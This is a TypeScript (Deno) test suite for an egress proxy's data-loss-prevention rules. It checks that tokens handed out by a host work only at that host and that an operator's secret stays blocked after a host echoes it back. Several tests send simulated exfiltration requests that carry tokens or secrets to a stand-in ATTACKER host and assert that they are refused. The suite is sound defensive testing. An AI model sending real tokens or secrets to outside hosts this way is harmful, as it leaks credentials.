import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { plainAnswer, type Respond } from "../support/recording_upstream.ts";
import { sampleSecret, sampleToken } from "../support/sample_token.ts";
import { ALLOWED, ATTACKER, get, Scene } from "./egress_scene.ts";

const SECRET = sampleSecret();

function issuing(respond: Respond): Promise<Scene> {
  const dlp = { outbound_on_match: "block" };
  return Scene.start({
    respond,
    secrets: [{ name: "SHOP_KEY", value: SECRET }],
    routes: [{ host: ALLOWED, dlp }, { host: ATTACKER, dlp }],
  });
}

/** The ways in which a host gives a token away. */
const GIVEN: Readonly<Record<string, (token: string) => ReturnType<typeof plainAnswer>>> = {
  "a JSON answer": (token) =>
    plainAnswer(JSON.stringify({ token }), ["Content-Type: application/json; charset=utf-8"]),
  "a text answer": (token) => plainAnswer(`token: ${token}\n`, ["Content-Type: text/plain"]),
  "a compressed answer": (token) =>
    plainAnswer(gzipSync(JSON.stringify({ token })), [
      "Content-Type: application/json",
      "Content-Encoding: gzip",
    ]),
  "a cookie": (token) => plainAnswer("", [`Set-Cookie: session=${token}; Secure`]),
  "a redirect": (token) => plainAnswer("", [`Location: /next?key=${token}`], "302 Found"),
};

for (const [way, answer] of Object.entries(GIVEN)) {
  Deno.test(`a token that a host gave in ${way} may be used there, and nowhere else`, async () => {
    const token = sampleToken();
    await using scene = await issuing(() => answer(token));
    using client = await scene.tunnel();
    assert.equal((await client.ask(get(`/?key=${token}`)))?.status, 403, "before it was given");
    await client.ask(get("/login"));
    for (
      const use of [
        get(`/?key=${token}`),
        get("/", [`Authorization: Bearer ${token}`, `X-B: ${btoa(`u:${token}`)}`]),
      ]
    ) {
      assert.notEqual((await client.ask(use))?.headers.get("x-bot-bottle-denied"), "detected");
    }
    assert.equal((await client.ask(get(`/?key=${sampleToken()}`)))?.status, 403, "another one");
    using elsewhere = await scene.egress.tunnel(`${ATTACKER}:443`);
    assert.equal((await elsewhere.ask(get(`/?key=${token}`, [], ATTACKER)))?.status, 403);
    assert.equal(scene.attacker.bytes, 0);
  });
}

Deno.test("a token in a link to another allowed host may be used at that host", async () => {
  const token = sampleToken();
  await using scene = await issuing(({ target }) =>
    target === "/start"
      ? plainAnswer("", [`Location: https://${ATTACKER}/file?key=${token}`], "302 Found")
      : plainAnswer("file")
  );
  using client = await scene.tunnel();
  assert.equal((await client.ask(get("/start")))?.status, 302);
  using elsewhere = await scene.egress.tunnel(`${ATTACKER}:443`);
  const file = await elsewhere.ask(get(`/file?key=${token}`, [], ATTACKER));
  assert.equal(String(file?.body), "file");
});

Deno.test("a secret of the operator's does not become free because a host repeated it", async () => {
  await using scene = await issuing(() =>
    plainAnswer(JSON.stringify({ SECRET }), ["Content-Type: application/json"])
  );
  using client = await scene.tunnel();
  assert.equal((await client.ask(get("/")))?.status, 200);
  const before = scene.allowed.bytes;
  assert.equal((await client.ask(get(`/?q=${SECRET}`)))?.status, 403);
  assert.equal(scene.allowed.bytes, before);
});
